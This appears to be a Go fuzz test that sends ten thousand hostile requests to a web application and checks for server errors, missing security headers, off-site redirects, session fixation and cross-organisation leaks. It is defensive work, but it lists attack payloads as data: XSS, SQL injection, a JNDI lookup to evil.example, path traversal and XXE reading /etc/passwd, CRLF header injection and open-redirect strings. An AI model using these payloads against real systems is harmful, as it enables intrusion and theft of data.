package app

import (
	"fmt"
	"io"
	"math/rand/v2"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"testing"

	"eerstelijn/internal/access"
	"eerstelijn/internal/api"
)

const hostileRequests = 10_000

// mostAnswer is far more than any page, list or file of the invented region.
const mostAnswer = 4 << 20

// TestHostileRequests asks ten thousand things that nobody should: bent paths, methods, headers, bodies,
// cookies, tokens, and the ids of another region and organisation. The same each time. No answer is a
// failure of ours, lacks its protections, leads to another site, hands out a session, or tells somebody
// bound to a region or organisation of the people and drafts of another.
func TestHostileRequests(t *testing.T) {
	t.Parallel()
	h := build(t, nil)
	x := &hostile{world: h.fill(t), t: t, r: rand.New(rand.NewPCG(20, 30))}
	for _, name := range []string{"Gerda Kleibakker", "Tineke Wilgentak", "Esra Hoogwater", "Saskia Veerstoep", "Jannie Kersenplukker", "Vivian Overlaat", "Pieter-Bas Lakerhout", "Annelot Vloedlijn"} {
		x.who = append(x.who, h.signIn(t, name))
	}
	x.who = append(x.who, visitor{name: "nobody", actor: access.Anonymous("")}, h.machine(t, h.people["Gerda Kleibakker"], "directory:write"))
	for _, r := range Routes() {
		if r.For != access.ForOperator {
			x.routes = append(x.routes, r)
		}
	}
	codes := map[int]int{}
	for range hostileRequests {
		codes[x.one()]++
	}
	t.Logf("%v", codes)
	for _, code := range []int{http.StatusOK, http.StatusSeeOther, http.StatusForbidden, http.StatusNotFound, http.StatusMethodNotAllowed, http.StatusUnprocessableEntity} {
		if codes[code] < 20 {
			t.Errorf("%d was answered %d times: the test does not reach what it should", code, codes[code])
		}
	}
	h.whole(t)
}

type hostile struct {
	*world
	t      *testing.T
	r      *rand.Rand
	who    []visitor
	routes []access.Route
}

func pick[T any](x *hostile, of ...T) T { return of[x.r.IntN(len(of))] }

// chance is true once in so many times.
func (x *hostile) chance(in int) bool { return x.r.IntN(in) == 0 }

var elsewhereAddresses = []string{
	"https://evil.example/", "//evil.example", "/\\evil.example", "\\\\evil.example", "/\t/evil.example", "///evil.example", "/%2F/evil.example", "/%5Cevil.example",
	"https:evil.example", "javascript:alert(1)", "/werk//evil.example", "/..//evil.example", "/werk\r\nLocation: https://evil.example", "http://eerstelijn.example@evil.example/",
	"/%0d%0aSet-Cookie:%20a=b", " //evil.example", "/;@evil.example", "data:text/html,x", "/.//evil.example",
}

// text gives something that a field does not expect.
func (x *hostile) text() string {
	return pick(x, "", "x", "\x00", "a\x00b", "\xff\xfe", "é", "\u202e", "<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "' OR 1=1 --", "'; DROP TABLE service; --",
		"%00", "%s%n%d", "${jndi:ldap://evil.example/}", "{{7*7}}", "../../../../etc/passwd", "..\\..\\", "-1", "0", "99999999999999999999", "1e309", "NaN", "true", "null", "[]", "{}",
		strings.Repeat("A", 5000), strings.Repeat("9", 400), "a\r\nSet-Cookie: x=y", string(x.services[1].ID), string(x.staff[1].ID), string(x.reports[1].ID), x.teams[1].Slug, x.regions[1].Slug,
		string(x.offers[1].ID), string(x.offers[2].ID), string(x.stands(2, opened).ID), string(x.stands(2, opened).Invitations[0].ID), string(x.offers[2].Organization), "2026-11-03", "elv-laag",
		x.hidden("stuck"), x.hidden("agreed"), x.hidden("meeting"),
		x.session, string(x.proposals[0].ID), string(x.invited[1].ID), string(x.client), pick(x, elsewhereAddresses...), "01a2021c-57a7-7958-a0a2-dda95bcee43f")
}

// hidden is the id of a bottleneck, an agreement or a meeting that few may read.
func (x *hostile) hidden(kind string) string {
	switch kind {
	case "stuck":
		return hold(x.world, "hidden bottleneck", func() string { return string(x.report(farAway, told)) })
	case "agreed":
		return string(x.agreed(drafted).ID)
	}
	return hold(x.world, "hidden meeting", func() string { return string(x.meet(x.tables()[3], false).ID) })
}

// fields are names of parameters and fields that some page or question reads.
var fields = []string{
	"terug", "back", "leeswijze", "taal", "q", "place", "topic", "versie", "version", "rol", "naam", "email", "organisatie", "besluit", "doe", "rechten", "ding", "soort", "nummer", "vorm", "vanaf",
	"tot", "verder", "handeling", "name", "kind", "words", "answer", "reply", "code", "state", "iss", "error", "logout_token", "id_token_hint", "grant_type", "client_assertion", "scope", "limit",
	"cursor", "near", "postcode", "radius", "area", "need", "at", "year", "geometry", "areas", "primary", "last_met", "function", "phone", "hours", "discipline", "_method", "__proto__", "wat", "stand", "op", "gezien",
	"plekken", "neemt-aan", "wachten", "alles", "aanbod", "totaal", "vragen", "gesprek", "geldt", "maand", "regio", "gedaan", "inhoud", "antwoord", "reden", "vrij", "aanbieder", "wie", "dag", "naam", "geboren", "bereik",
	"begin", "betaald", "formulier", "tekst", "urgency", "direction", "groups", "languages", "insurer", "max_km", "places", "continuity", "wishes", "needs.walking", "note", "consent_with", "why_not", "id", "start_by",
	"region", "desk", "invited", "since", "service", "organization", "from", "until",
	"kort", "vaak", "wijk", "thema", "kenmerk", "naamloos", "aanvraag", "woorden", "waarom", "einde", "eigenaar", "knelpunt", "oordeel", "niveau", "klok", "meting", "grens", "weken", "regel", "bron", "tafel", "tijd",
	"duur", "onderwerp", "notulen", "besluit", "volgende", "punt", "taak", "voor-dag", "partij", "artikel", "gelezen", "welke", "edit", "parties", "clauses[0].number", "clauses[0].text", "obligations[0].norm",
	"obligations[0].params.hours", "belofte", "van", "sjabloon", "bekend", "why", "evidence", "delegate", "subjects", "grantor", "equal", "agreed_by", "weight", "holder", "forum", "wijkverband", "known", "boundary",
}

// one asks one thing, and looks at the answer.
func (x *hostile) one() int {
	v := pick(x, x.who...)
	r := v.known(x.request())
	sent := r.Header.Values("Cookie")
	method, path := r.Method, r.URL.Path
	// The feed goes on until somebody leaves; all else ends by itself.
	a := httptest.NewRecorder()
	if r.URL.Path == api.FeedPath {
		a = x.overhear(r)
	} else {
		x.handler.ServeHTTP(a, r)
	}
	if a.Body.Len() > mostAnswer {
		x.t.Errorf("%s %s answers %d bytes", method, path, a.Body.Len())
	}
	told := func(format string, args ...any) {
		x.t.Errorf("%s %.200q?%.200q as %s: %d: %s", method, path, r.URL.RawQuery, v.name, a.Code, fmt.Sprintf(format, args...))
	}
	if a.Code >= 500 || a.Code < 200 {
		told("our failure\n%.300s", a.Body)
	}
	for name, want := range map[string]string{
		"Content-Security-Policy": "default-src 'none'; script-src 'self'; ", "X-Content-Type-Options": "nosniff", "Referrer-Policy": "no-referrer",
		"X-Frame-Options": "DENY", "Strict-Transport-Security": "max-age=63072000", "Cross-Origin-Opener-Policy": "same-origin", "X-Trace-Id": "",
	} {
		if got := a.Header().Values(name); len(got) != 1 || !strings.HasPrefix(got[0], want) {
			told("%s is %q", name, got)
		}
	}
	for name, values := range a.Header() {
		if strings.ContainsAny(name+strings.Join(values, ""), "\r\n\x00") {
			told("the header %q breaks the line", name)
		}
	}
	if at := a.Header().Get("Location"); at != "" && !local(at) {
		told("leads to %q", at)
	}
	for _, c := range a.Result().Cookies() {
		session := strings.HasSuffix(c.Name, "eerstelijn")
		if session && c.Value != "" && !strings.HasPrefix(path, "/demo/als/") {
			told("hands out a session")
		}
		if session && c.Value != "" && slices.ContainsFunc(sent, func(s string) bool { return strings.Contains(s, c.Value) }) {
			told("keeps a session that somebody brought")
		}
		if !c.HttpOnly || !c.Secure || c.Path != "/" || c.Domain != "" || c.SameSite != http.SameSiteLaxMode {
			told("sets the cookie %v", c)
		}
	}
	cross := r.Header.Get("Sec-Fetch-Site") == "cross-site"
	if safe := method == "GET" || method == "HEAD" || method == "OPTIONS"; cross && !safe && path != "/api/v1/services/search" && a.Code < 400 {
		told("a form of another site is taken")
	}
	// The picker of the demonstration shows everybody to everybody.
	if !strings.HasPrefix(path, "/demo") {
		for _, secret := range []string{x.staff[1].Name, x.staff[1].Email, "Zomerlogeren De Veerstoep", wish(2)} {
			if strings.Contains(a.Body.String(), secret) {
				told("tells of %q", secret)
			}
		}
	}
	return a.Code
}

// local tells whether a browser that follows an address stays on the site.
func local(at string) bool {
	base := &url.URL{Scheme: "https", Host: "eerstelijn.example", Path: "/werk"}
	u, err := base.Parse(strings.NewReplacer("\t", "", "\r", "", "\n", "", "\\", "/").Replace(at))
	return err == nil && u.Host == base.Host && u.Scheme == base.Scheme && u.User == nil && !strings.HasPrefix(u.Path, "//")
}

func (x *hostile) request() *http.Request {
	route := pick(x, x.routes...)
	thing := pick(x, x.things(route.Pattern)...)
	if x.chance(3) {
		thing.values = slices.Repeat([]string{x.text()}, max(1, len(thing.values)))
	}
	method, target := thing.address(route.Pattern)
	if x.chance(5) {
		method = pick(x, "GET", "POST", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "get", "X", "POST ")
	}
	switch x.r.IntN(14) {
	case 0:
		target = pick(x, "/../../etc/passwd", "//evil.example/%2e%2e", "/.git/config", "/werk/../beheer", "/%2e%2e/%2e%2e/", "/werk/%00", "/werk/\xff", "/aanbod//x", "/"+x.text(), "/api/v1/"+x.text(), "*", "",
			"/metrics", "/debug/pprof/", "/assets/../../go.mod", "/assets/%2e%2e/", "/WERK", "/werk/", "/beheer%2Fmensen", "/api/v1/services/../../../beheer", "https://evil.example/werk")
	case 1:
		target = strings.ReplaceAll(target, "/", "//")
	case 2:
		target += pick(x, "/", "/.", "/..", "%2e", ";x=y", "%00", ".json", "/"+x.text())
	}
	path, query, _ := strings.Cut(target, "?")
	if x.chance(3) {
		for range 1 + x.r.IntN(4) {
			query += "&" + url.QueryEscape(pick(x, fields...)) + "=" + pick(x, url.QueryEscape(x.text()), x.text())
		}
	}
	kind, body := x.body(thing)
	r := httptest.NewRequest(http.MethodGet, "/", body)
	r.Method, r.Host = method, "eerstelijn.example"
	// As a server reads it; what it would refuse itself is given to the handler all the same.
	if u, err := url.ParseRequestURI(path); err == nil {
		r.URL = u
	} else {
		r.URL = &url.URL{Path: path}
	}
	// No server hands on an address with control characters in it; TestMalformedRequests shows so.
	for _, c := range []string{"\x00", "\r", "\n", "\t", "\x7f"} {
		query = strings.ReplaceAll(query, c, url.QueryEscape(c))
	}
	r.URL.RawQuery = strings.TrimPrefix(query, "&")
	r.RequestURI = r.URL.RequestURI()
	if kind != "" {
		r.Header.Set("Content-Type", kind)
	}
	x.headers(r)
	return r
}

// body gives what is sent: what belongs there, something else, or something very large or deep.
func (x *hostile) body(of thing) (kind string, body io.Reader) {
	const urlencoded = "application/x-www-form-urlencoded"
	form := url.Values{}
	for name, value := range of.form {
		form[name] = value
	}
	for range x.r.IntN(6) {
		form.Add(pick(x, fields...), x.text())
	}
	if x.chance(2) {
		form.Set(pick(x, "terug", "back", "leeswijze.terug"), pick(x, elsewhereAddresses...))
	}
	switch x.r.IntN(18) {
	case 16, 17: // what belongs there, but for one text or number
		if at := strings.Index(of.body, `":`); at > 0 {
			head, tail := of.body[:at+2], of.body[at+2:]
			if next := strings.IndexAny(tail, ",}]"); next >= 0 {
				return "application/json", strings.NewReader(head + pick(x, "-1", "1e400", "9223372036854775808", "null", "{}", "[]", `""`, `"`+strings.Repeat("a", 3000)+`"`, `"\u0000"`, `"0001-01-01T00:00:00Z"`, `"9999-12-31T23:59:59Z"`, "true") + tail[next:])
			}
		}
		fallthrough
	case 0:
		return "application/json", strings.NewReader(of.body)
	case 1:
		return "application/json", strings.NewReader(strings.Repeat(pick(x, "[", `{"a":`), 20_000))
	case 2:
		return "application/json", strings.NewReader(`{"q":"` + x.text() + `","q":1,"` + x.text() + `":` + strings.Repeat("9", 500) + `}`)
	case 3:
		return pick(x, "application/json", urlencoded, "text/plain", ""), io.LimitReader(zeros{}, maxBody+1000)
	case 4:
		return "multipart/form-data; boundary=x", strings.NewReader("--x\r\nContent-Disposition: form-data; name=\"versie\"; filename=\"../../x\"\r\n\r\n1\r\n--x--")
	case 5:
		return pick(x, "text/xml", "application/json; charset=utf-16", "a/b/c", "\x00", "application/xml"), strings.NewReader(`<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`)
	case 6:
		return urlencoded, strings.NewReader(strings.Repeat("a=b&", 15_000))
	case 7:
		return urlencoded, strings.NewReader("%zz=%&;&&=%00&" + form.Encode())
	}
	return urlencoded, strings.NewReader(form.Encode())
}

type zeros struct{}

func (zeros) Read(p []byte) (int, error) { clear(p); return len(p), nil }

// headers adds some that lie.
func (x *hostile) headers(r *http.Request) {
	r.Header.Set("Sec-Fetch-Site", pick(x, "same-origin", "same-origin", "same-origin", "same-origin", "none", "cross-site", "same-site", x.text()))
	r.RemoteAddr = pick(x, "198.51.100.7:1", "192.0.2.1:80", "[2001:db8::1]:4", "@", "")
	for range x.r.IntN(4) {
		name := pick(x, "X-HTTP-Method-Override", "X-Original-URL", "X-Rewrite-URL", "X-Forwarded-For", "X-Forwarded-Host", "X-Forwarded-Proto", "Forwarded", "Origin", "Referer", "User-Agent",
			"Accept", "Accept-Encoding", "Accept-Language", "Range", "If-Match", "If-None-Match", "If-Modified-Since", "Idempotency-Key", "Content-Encoding", "Expect", "Upgrade", "Connection", "Traceparent",
			"X-Trace-Id", "Cookie", "Authorization", "X-Real-Ip", "Via", "Te", "Content-Length")
		r.Header.Add(name, pick(x, x.text(), "DELETE", "gzip", "bytes=0-", "*", "127.0.0.1", "https://evil.example", "application/json", "/beheer", strings.Repeat("x", 30_000), "Bearer "+strings.Repeat("a", 43),
			"Basic YTpi", `W/"1"`, `"`+x.text()+`"`))
	}
	if x.chance(6) {
		r.Host = pick(x, "evil.example", "eerstelijn.example:1@evil.example", "", "localhost", "[::1]", "a b", x.text())
	}
	if x.chance(4) {
		for _, name := range []string{"__Host-eerstelijn", "eerstelijn", "__Host-eerstelijn-weg", "__Host-eerstelijn-uit", "taal", "leeswijze"} {
			r.Header.Add("Cookie", name+"="+pick(x, strings.Repeat("A", 43), x.session, x.toAsk, x.text(), x.who[0].cookie.Value[:42]))
		}
	}
}
